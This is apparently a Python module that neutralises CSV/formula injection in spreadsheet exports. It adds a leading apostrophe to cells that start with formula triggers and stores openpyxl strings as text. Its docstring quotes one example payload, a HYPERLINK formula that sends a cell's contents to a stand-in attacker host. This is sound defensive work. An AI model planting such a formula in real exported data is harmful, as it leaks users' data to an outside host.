"""Cells of exported spreadsheets that a spreadsheet program never runs as formulas (CSV/formula injection).

A case title such as ``=HYPERLINK("http://evil.example/?"&A1,"点击")`` is data typed by an applicant; Excel and
LibreOffice run any cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return as a formula.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """A CSV cell: text that begins with a formula trigger gets a leading apostrophe (OWASP's advice), which
    spreadsheet programs show as plain text; numbers stay numbers."""
    if isinstance(value, str) and value.startswith(TRIGGERS):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(value) for value in values]


def append_text_safe(sheet: Any, values: Iterable[Any]) -> None:
    """Append a row to an openpyxl sheet with every string stored as a string cell: openpyxl otherwise stores
    any string beginning with ``=`` as a formula. The text itself is kept exactly."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
